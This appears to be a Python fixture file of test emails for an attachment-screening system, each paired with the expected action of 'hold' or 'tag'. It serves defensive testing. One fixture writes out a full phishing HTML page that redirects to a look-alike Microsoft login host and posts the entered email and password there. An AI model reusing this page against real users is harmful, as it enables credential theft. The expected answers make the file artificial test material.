# Kemp Town Kind Skin: attachment problems
MESSAGES = [
{
    "id": "at-invoice-pdf-exe",
    "from": "Dean Pettifer <dean@kindskin.example>",
    "to": ["Coastline Accounts <accounts@coastlinemed.example>"],
    "subject": "Re: overpayment INV-2026-07733",
    "date": "2026-03-25 10:12",
    "body": [
        "Hi, re-sending the remittance you asked for, our system exported it like this, hope it opens! Dean",
    ],
    "attachments": [
        {"kind": "program", "name": "Remittance_INV-2026-07733.pdf.exe", "flavour": "exe"},
    ],
    "accept": ["hold"],
    "categories": ["attachment"],
    "note": "Windows program with a double extension posing as a PDF: hold.",
},
{
    "id": "at-zip-with-js",
    "from": "Tyler Gunn <tyler@kindskin.example>",
    "to": ["Felix Ambrose <felix@sidequest.example>"],
    "subject": "insta grid tool thing",
    "date": "2026-05-29 13:13",
    "body": [
        "felix, some guy on tiktok made this script that auto-plans your grid, zipped it for u, just double click the js file 🤷",
        "t",
    ],
    "attachments": [
        {"kind": "zip", "name": "grid_planner.zip",
         "members": [
            {"kind": "text", "name": "README.txt", "text": ["Double-click planner.js to run. Windows only."]},
            {"kind": "program", "name": "planner.js", "flavour": "js"},
         ]},
    ],
    "accept": ["hold"],
    "categories": ["attachment"],
    "note": "JavaScript program nested in a zip: hold.",
},
{
    "id": "at-exe-posing-as-pdf",
    "from": "Jess Okafor-Reid <jess@kindskin.example>",
    "to": ["Hilary Wetherby <hilary@wetherbyestates.example>"],
    "subject": "Signed lease variation",
    "date": "2026-04-21 17:30",
    "body": [
        "Dear Hilary,",
        "Signed variation attached. The scanning app at the clinic has been playing up, so let me know if it doesn't open.",
        "Kind regards,\nJess",
    ],
    "attachments": [
        {"kind": "program", "name": "Lease_variation_signed.pdf", "flavour": "exe"},
    ],
    "accept": ["hold"],
    "categories": ["attachment"],
    "note": "A Windows executable named .pdf: hold.",
},
{
    "id": "at-html-login-redirect",
    "from": "Dean Pettifer <dean@kindskin.example>",
    "to": ["Ravi Kohli <ravi@kohli-it.example>"],
    "subject": "FW: voicemail – is this legit??",
    "date": "2026-06-30 09:48",
    "body": [
        "Hi Ravi, this came in as an attachment saying we have a voicemail, it asked me to log in with the clinic Microsoft password and I nearly did 😬 sending it to you to check. Dean",
    ],
    "attachments": [
        {"kind": "html", "name": "Voicemail_0630_0912.html",
         "html": "<html><head><meta http-equiv=\"refresh\" content=\"0; url=https://login-microsoftonline.secure-voicemail.example/auth?u=dean@kindskin.example\"><script>var e=atob('ZGVhbkBraW5kc2tpbi5leGFtcGxl');document.location='https://login-microsoftonline.secure-voicemail.example/?e='+e;</script></head><body><p>Loading your voicemail...</p><form action=\"https://login-microsoftonline.secure-voicemail.example/post\" method=\"post\"><input name=\"email\"><input type=\"password\" name=\"pw\"><button>Sign in</button></form></body></html>"},
    ],
    "accept": ["hold"],
    "categories": ["attachment"],
    "note": "HTML attachment that runs script and redirects to a credential-harvesting login page: hold.",
},
{
    "id": "at-macro-disguised-docx",
    "from": "Rowan Achterberg <rowan@kindskin.example>",
    "to": ["Hannah Ikeda <hannah.ikeda.rgn@outlook.example>"],
    "subject": "consent form with the auto-fill",
    "date": "2026-07-07 19:25",
    "body": [
        "Hoi Hannah, this is the consent form Ravi made with the little auto-fill button. If Word asks you to 'enable content', say yes, otherwise it doesn't work. Rowan",
    ],
    "attachments": [
        {"kind": "program", "name": "consent_form_autofill.docx", "flavour": "macro_docx"},
    ],
    "accept": ["hold", "tag"],
    "categories": ["attachment"],
    "note": "Macro-enabled Word document disguised as .docx: hold or tag.",
},
{
    "id": "at-encrypted-pdf-solicitor",
    "from": "Jess Okafor-Reid <jess@kindskin.example>",
    "to": ["Saoirse Byrne <s.byrne@fenwicklowe.example>"],
    "subject": "Shareholder agreement (password by text)",
    "date": "2026-04-16 12:00",
    "body": [
        "Hi Saoirse,",
        "The original shareholder agreement with Marcus is attached. I've password-protected it and will text you the password.",
        "Jess",
    ],
    "attachments": [
        {"kind": "pdf", "name": "KTKS_shareholder_agreement_2023.pdf", "encrypt": "Seafoam41!",
         "pages": [["Shareholders' agreement: Kemp Town Kind Skin Ltd", "Between Jess Okafor-Reid and Marcus Hale, 1 March 2023."]]},
    ],
    "accept": ["hold", "tag"],
    "categories": ["attachment"],
    "note": "Encrypted PDF that cannot be screened: hold or tag.",
},
{
    "id": "at-encrypted-zip-photographer",
    "from": "Tyler Gunn <tyler@kindskin.example>",
    "to": ["Cass Bellweather <cass@cassbphoto.example>"],
    "subject": "the files 🔒",
    "date": "2026-06-06 15:15",
    "body": [
        "cass, zipped + locked, password is our street number + the year (u know it). lmk when u've got them",
        "t",
    ],
    "attachments": [
        {"kind": "zip", "name": "shoot_selects_locked.zip", "encrypt": "412026",
         "members": [
            {"kind": "image", "name": "select_01.jpg", "scene": "room", "text": []},
            {"kind": "xlsx", "name": "shotlist.xlsx", "sheets": [{"name": "Shots", "rows": [["#", "Room", "Notes"], ["1", "Reception", "wide"]]}]},
         ]},
    ],
    "accept": ["hold", "tag"],
    "categories": ["attachment"],
    "note": "Password-protected zip that cannot be screened: hold or tag.",
},
{
    "id": "at-corrupt-jpeg-and-pdf",
    "from": "Priya Chaudhary <priya@kindskin.example>",
    "to": ["Gareth Pyle <gareth.pyle@coastlinemed.example>"],
    "subject": "damaged delivery pics + delivery note",
    "date": "2026-07-11 11:50",
    "body": [
        "hi gareth, pics of the squashed box and the delivery note attached, my phone was being weird so sorry if they don't open properly. priya",
    ],
    "attachments": [
        {"kind": "program", "name": "IMG_6012.jpg", "flavour": "corrupt_jpeg"},
        {"kind": "program", "name": "delivery_note_0711.pdf", "flavour": "corrupt_pdf"},
    ],
    "accept": ["hold", "tag"],
    "categories": ["attachment"],
    "note": "Corrupt/truncated image and PDF that cannot be read: hold or tag.",
},
]
